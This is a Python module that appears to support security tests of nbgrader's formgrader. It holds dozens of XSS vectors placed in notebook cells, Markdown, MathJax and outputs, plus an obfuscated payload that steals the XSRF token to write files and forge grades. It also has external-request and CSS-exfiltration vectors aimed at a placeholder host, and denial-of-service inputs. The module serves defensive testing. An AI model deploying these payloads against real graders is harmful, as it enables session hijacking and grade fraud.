"""Ways in which a hand-in tries to run something in the browser of whoever looks at it.

Each is a cell of a notebook, as it stands in ``autograded/``, and says its name to a page that
listens. Where formgrader lets it, it also does what it came for: it writes a file through
Jupyter's API and sets a grade through formgrader's.
"""

import base64
from collections.abc import Callable
from dataclasses import dataclass

#: What they write, and what they give themselves.
FILE = "written-by-{}.txt"
EXTRA_CREDIT = 99.0

_ATTACK = """
(async (name) => {
  top.ran?.(name);
  const xsrf = document.cookie.match(/_xsrf=([^;]*)/)?.[1];
  const headers = {"X-XSRFToken": xsrf, "X-CSRFToken": xsrf, "Content-Type": "application/json"};
  const put = (address, body) =>
    fetch(address, {method: "PUT", headers, body: JSON.stringify(body)});
  await put(`/api/contents/%s`, {type: "file", format: "text", content: name});
  const submission = top.location.pathname.split("/")[3];
  top.grades ??= fetch(`/formgrader/api/grades?submission_id=${submission}`).then((a) => a.json());
  const [{id}] = await top.grades;
  await put(`/formgrader/api/grade/${id}`, {manual_score: 1, extra_credit: %s});
})
"""


def script(name: str) -> str:
    """The attack as JavaScript that can stand in an attribute, whatever its quotes."""
    code = _ATTACK % (FILE.format("${name}"), EXTRA_CREDIT) + f"({name!r}).catch(() => 0)"
    return f"eval(atob('{base64.b64encode(code.encode()).decode()}'))"


@dataclass(frozen=True)
class Vector:
    """A cell, given the script that it is to run. ``alone``: it changes what comes after it."""

    name: str
    cell: Callable[[str], dict]
    alone: bool = False


def markdown(source: str, **more: object) -> Callable[[str], dict]:
    """A text; JS in it is the script."""

    def cell(js: str) -> dict:
        return {"cell_type": "markdown", "metadata": {}, "source": source.replace("JS", js)} | more

    return cell


def code(*outputs: dict, source: str = "1", **more: object) -> Callable[[str], dict]:
    """A cell of code with these outputs; JS anywhere in them is the script."""

    def filled(value: object, js: str) -> object:
        if isinstance(value, dict):
            return {filled(key, js): filled(each, js) for key, each in value.items()}
        if isinstance(value, list):
            return [filled(each, js) for each in value]
        return value.replace("JS", js) if isinstance(value, str) else value

    def cell(js: str) -> dict:
        plain = {"cell_type": "code", "metadata": {}, "execution_count": 1}
        return filled(plain | {"source": source, "outputs": list(outputs)} | more, js)

    return cell


def shown(metadata: dict | None = None, **data: object) -> dict:
    """An output of a display; ``text_html`` is text/html."""
    kinds = {kind.replace("_", "/", 1): value for kind, value in data.items()}
    return {"output_type": "display_data", "metadata": metadata or {}, "data": kinds}


IMG = '<img src=x onerror="JS">'
SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="JS"><script>JS</script></svg>'
_SVG_IN_64 = base64.b64encode(SVG.replace("JS", "alert(1)").encode()).decode()
_GRADED = {"grade": True, "solution": False, "locked": True, "task": False, "points": 1.0}

#: HTML, as it can stand in a text, in an output, and in a message.
HTML = {
    "script": "<script>JS</script>",
    "script-unclosed": "<script>JS//",
    "script-file": "<script src='attack.js'></script>",
    "script-in-svg": "<svg><script>JS</script></svg>",
    "script-in-a-script": "<scr<script>ipt>JS</scr</script>ipt>",
    "onerror": IMG,
    "onerror-slashes": "<img/src='x'/onerror=JS>",
    "onload": '<svg onload="JS">',
    "ontoggle": '<details open ontoggle="JS">x</details>',
    "onfocus": '<input autofocus onfocus="JS">',
    "onclick": '<b onclick="JS">click</b>',
    "onstart": '<marquee onstart="JS">x</marquee>',
    "onanimationstart": "<style>@keyframes k{from{color:red}}</style>"
    '<b style="animation:k 1s" onanimationstart="JS">x</b>',
    "onbeforetoggle": '<b popover id=pop onbeforetoggle="JS">x</b>'
    "<button popovertarget=pop>click</button>",
    "onload-of-a-style": '<style onload="JS"></style>',
    "onload-of-a-link": "<link rel=stylesheet href=/formgrader/static/css/nbgrader.css "
    'onload="JS">',
    "video": '<video><source onerror="JS"></video>',
    "audio": '<audio src=x onerror="JS"></audio>',
    "body": '<body onpageshow="JS">',
    "animate": '<svg><animate onbegin="JS" attributeName=x dur=1s>',
    "set": '<svg><set onbegin="JS" attributeName=x to=1>',
    "animated-link": '<svg width=60 height=20><a><animate attributeName=href values="javascript:JS"'
    " /><text x=0 y=15>click</text></a></svg>",
    "use": f"<svg><use href='data:image/svg+xml;base64,{_SVG_IN_64}#x'></svg>",
    "foreign-object": f"<svg><foreignObject>{IMG}</foreignObject></svg>",
    "javascript-link": '<a href="javascript:JS">click</a>',
    "javascript-link-in-pieces": '<a href="jav&#x09;ascript:JS">click</a>',
    "javascript-link-in-svg": '<svg width=60 height=20><a xlink:href="javascript:JS">'
    "<text x=0 y=15>click</text></a></svg>",
    "area": '<map name=m><area shape=default href="javascript:JS"></map>'
    "<img usemap=#m width=20 height=20 alt=click>",
    "iframe-srcdoc": '<iframe srcdoc="<script>JS</script>"></iframe>',
    "iframe-javascript": '<iframe src="javascript:JS"></iframe>',
    "iframe-file": "<iframe src='attack.html'></iframe>",
    "object-file": "<object data='attack.html'></object>",
    "embed-javascript": '<embed src="javascript:JS">',
    "form": '<form action="javascript:JS"><input type=submit value=click></form>',
    "formaction": '<form><button formaction="javascript:JS">click</button></form>',
    "math-link": '<math><mtext href="javascript:JS">click</mtext></math>',
    "math-action": '<math><maction actiontype="statusline" xlink:href="javascript:JS">click</math>',
    "shadow": f"<div><template shadowrootmode=open>{IMG}</template></div>",
    "mutation-noscript": '<noscript><p title="</noscript><img src=x onerror=JS>"></noscript>',
    "mutation-mglyph": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=x onerror=JS&gt;"></table></mtext></math>',
    "mutation-svg-style": '<svg></p><style><a id="</style><img src=x onerror=JS>"></svg>',
    "mutation-form": "<form><math><mtext></form><form><mglyph><style></math>"
    "<img src=x onerror=JS></style></mglyph></form></mtext></math>",
    "mutation-annotation": '<math><annotation-xml encoding="text/html"><style><img '
    'title="</style><img src=x onerror=JS>"></style></annotation-xml></math>',
    "comment": '<!--><img src=x onerror="JS">-->',
    "processing-instruction": '<?x ><img src=x onerror="JS">?>',
}
#: HTML that swallows what comes after it, or points it elsewhere.
_ALONE = {
    *("animate", "body", "mutation-form", "onload", "script-in-a-script", "script-unclosed", "set")
}

VECTORS = [
    *(Vector(name, markdown(html), name in _ALONE) for name, html in HTML.items()),
    Vector("meta-refresh", markdown('<meta http-equiv=refresh content="0;url=attack.html">'), True),
    Vector("base", markdown("<base href='/files/autograded/'>"), True),
    Vector("textarea", markdown(f"</textarea></div></div></div>{IMG}<textarea>"), True),
    # Markdown
    Vector("heading", markdown(f"# A heading {IMG}")),
    Vector("heading-underlined", markdown(f"A heading {IMG}\n=====")),
    Vector("markdown-link", markdown("[click](javascript:JS)")),
    Vector("markdown-link-entity", markdown("[click](&#106;avascript:JS)")),
    Vector("markdown-reference", markdown("[click][there]\n\n[there]: javascript:JS")),
    Vector("markdown-autolink", markdown("<javascript:JS>")),
    Vector("markdown-image", markdown('![a" onerror="JS](x "b\' onerror=JS c")')),
    Vector("markdown-table", markdown(f"|a|\n|-|\n|{IMG}|")),
    Vector("fence", markdown('```"><img src=x onerror=JS>\ncode\n```')),
    Vector("mermaid", markdown("```mermaid\n</pre><img src=x onerror=JS>\n```")),
    Vector(
        "attachment",
        markdown(
            "![x](attachment:x.png)", attachments={"x.png": {'image/png" onerror="1': "eA=="}}
        ),
    ),
    Vector(
        "attachment-svg",
        markdown("![x](attachment:x.svg)", attachments={"x.svg": {"image/svg+xml": _SVG_IN_64}}),
    ),
    # Formulas
    Vector("formula-link", markdown(r"$\href{javascript:JS}{click}$")),
    Vector("formula-text", markdown(rf"$\text{{{IMG}}}$")),
    Vector("formula-class", markdown(r"$\require{html}\class{modal-backdrop}{x}\cssId{x}{y}$")),
    Vector("formula-environment", markdown(r"\begin{align}<img src=x onerror=JS>\end{align}")),
    Vector("formula-colour", markdown(r'$\color{"><img src=x onerror=JS>}{x}$')),
    # Outputs
    Vector("output-html", code(shown(text_html=IMG))),
    Vector("output-script", code(shown(text_html="<script>JS</script>"))),
    Vector("output-isolated", code(shown({"text/html": {"isolated": True}}, text_html=IMG))),
    Vector("output-javascript", code(shown(application_javascript="JS"))),
    Vector("output-svg", code(shown(**{"image_svg+xml": SVG}))),
    Vector("output-markdown", code(shown(text_markdown=IMG))),
    Vector("output-latex", code(shown(text_latex=f"$$ {IMG} $$"))),
    Vector("output-plain", code(shown(text_plain=IMG))),
    Vector("output-mermaid", code(shown(**{"text_vnd.mermaid": f"</pre>{IMG}"}))),
    Vector("output-png", code(shown(image_png='"><img src=x onerror=JS>'))),
    Vector("output-size", code(shown({"image/png": {"width": "1 onerror=JS"}}, image_png="eA=="))),
    Vector("output-file", code(shown({"filenames": {"image/png": '" onerror=JS'}}, image_png=""))),
    Vector(
        "output-widget",
        code(
            shown(
                **{"application_vnd.jupyter.widget-view+json": {"model_id": "</script>" + IMG}},
                text_plain="IntSlider()",
            )
        ),
    ),
    Vector("stream", code({"output_type": "stream", "name": "stdout", "text": IMG})),
    Vector(
        "stream-ansi",
        code({"output_type": "stream", "name": "stderr", "text": f"\x1b[31m{IMG}\x1b[<b \x1b]8;"}),
    ),
    Vector(
        "error",
        code({"output_type": "error", "ename": IMG, "evalue": IMG, "traceback": [f"\x1b[1m{IMG}"]}),
    ),
    Vector(
        "result-of-a-test",
        code(
            {**shown(text_html=IMG), "output_type": "execute_result", "execution_count": 1},
            metadata={"nbgrader": _GRADED | {"grade_id": "forged"}},
        ),
    ),
    # What stands around cells
    # nbconvert refuses a notebook with such a count or such an id; alone, they cost only its page.
    Vector("execution-count", code(execution_count=IMG), True),
    Vector("source", code(source="# </pre><img src=x onerror=JS>")),
    Vector("tags", code(metadata={"tags": ['"><img src=x onerror=JS>']})),
    Vector("cell-id", code(id='"><img src=x onerror=JS>'), True),
    Vector(
        "grade-id", code(metadata={"nbgrader": _GRADED | {"grade_id": '"><img src=x onerror=JS>'}})
    ),
    Vector(
        "points", code(metadata={"nbgrader": _GRADED | {"grade_id": "forged-2", "points": "1<img"}})
    ),
    Vector(
        "raw-cell",
        lambda js: {
            "cell_type": "raw",
            "metadata": {"raw_mimetype": "text/html"},
            "source": IMG.replace("JS", js),
        },
    ),
    Vector("template", markdown("{{ cycler.__init__.__globals__.os.getcwd() }} {{ nonce() }}")),
]


# What asks another host, and what is too much -----------------------------------------------------

_HOST = "https://elsewhere.invalid"
#: HTML and Markdown that let a browser ask another host, or take it there.
ASKING = {
    "css-import": f"<style>@import '{_HOST}/a.css';</style>",
    "css-selector": "<style>[value^=a]{background:url(HOST/a)}</style><input value=abc>",
    "css-of-an-element": '<p style="background:url(HOST/b)">x</p>',
    "css-list": '<ul style="list-style-image:url(HOST/c)"><li>x</ul>',
    "css-escaped": r'<p style="background:u\72l(HOST/d)">x</p>',
    "css-image-set": "<p style=\"background:image-set('HOST/e' 1x)\">x</p>",
    "css-font": "<style>@font-face{font-family:x;src:url(HOST/f)}b{font-family:x}</style><b>x</b>",
    "image": "<img src=HOST/x.png>",
    "image-set": "<img srcset='HOST/x.png 1x'>",
    "picture": "<picture><source srcset=HOST/x.png><img src=x></picture>",
    "poster": "<video poster=HOST/x.png src=HOST/x.mp4 autoplay></video>",
    "sound": "<audio src=HOST/x.mp3 autoplay></audio>",
    "frame": "<iframe src=HOST/></iframe>",
    "object": "<object data=HOST/x.svg></object><embed src=HOST/x.svg>",
    "prefetch": "<link rel=prefetch href=HOST/><link rel=preload as=image href=HOST/x.png>",
    "connect": "<link rel=dns-prefetch href=HOST/><link rel=preconnect href=HOST/>",
    "style-sheet": "<link rel=stylesheet href=HOST/x.css>",
    "icon": "<link rel=icon href=HOST/x.ico>",
    "background": "<table background=HOST/x.png><tr><td>x</table>",
    "input": "<input type=image src=HOST/x.png>",
    "refresh": '<meta http-equiv=refresh content="0;url=HOST/">',
    "base": "<base href=HOST/><img src=x.png>",
    "svg-image": "<svg><image href=HOST/x.png /><image xlink:href=HOST/x.png /></svg>",
    "svg-use": "<svg><use href=HOST/x.svg#x /></svg>",
    "svg-style": "<svg><style>rect{fill:url(HOST/x)}</style><rect filter=url(HOST/x#y) /></svg>",
    "svg-feimage": "<svg><filter id=a><feImage href=HOST/x.png /></filter></svg>",
    "markdown-image": "![x](HOST/x.png)",
    "markdown-reference": "![x][there]\n\n[there]: HOST/x.png",
    "mathjax-style": r"$\require{html}\style{background:url(HOST/x)}{x}\href{HOST}{y}$",
    "mathjax-macro": r"$\def\x{\style{background:url(HOST/x)}{x}}\x$ $$\unicode[HOST/x]{65}$$",
    "mathjax-data": r"$\data{onload=fetch('HOST')}{x}\includegraphics{HOST/x.png}$",
}
ASKING = {name: html.replace("HOST", _HOST) for name, html in ASKING.items()}
#: More than anybody reads.
MUCH = {
    "deep": "<div>" * 30_000,
    "deep-in-a-table": "<table><tr><td>" * 3_000,
    "deep-in-svg": "<svg>" + "<g>" * 30_000,
    "deep-quotes": ">" * 5_000,
    "deep-list": "- " * 4_000,
    "deep-formula": "$" + "\\frac{" * 400 + "$",
    "many": "<b>x</b> " * 50_000,
    "long": "x" * 500_000,
}


def everywhere(cells: list[dict], text: str) -> None:
    """Put a text wherever a submission's text can stand in these graded cells, in place."""
    error = {"output_type": "error", "ename": text, "evalue": text, "traceback": [text, text]}
    both = {"text/html": text, "text/plain": text}
    picture = {"output_type": "display_data", "metadata": {"autograder-comparison": True}}
    outputs = [
        *({"output_type": "stream", "name": name, "text": text} for name in ("stdout", "stderr")),
        *(shown({text: text}, **{kind: text}) for kind in ("text_html", "text_markdown")),
        *(shown({text: text}, **{kind: text}) for kind in ("text_latex", "image_svg+xml")),
        *(shown(**{kind: text}) for kind in ("image_png", "text_plain", f"text_{text}")),
        picture | {"data": both},
        error,
    ]
    title, first, test = cells[:3]
    title["source"] = f"# Two functions {text}\n\n{text}"
    title["metadata"] = {text: text, "tags": [text]}
    for cell in (first, test):
        cell["outputs"] = outputs
        cell["metadata"] = {text: text, "tags": [text], **cell["metadata"]}
    first["source"] = text
    loose = {"cell_type": "code", "metadata": {}, "execution_count": 1, "outputs": outputs}
    cells[1:1] = [
        {"cell_type": "markdown", "metadata": {}, "source": text},
        {"cell_type": "raw", "metadata": {"format": text}, "source": text},
        loose | {"source": text},
    ]
    cells += [loose | {"source": text}]
    for number, cell in enumerate(cells):
        cell["id"] = f"c{number}"
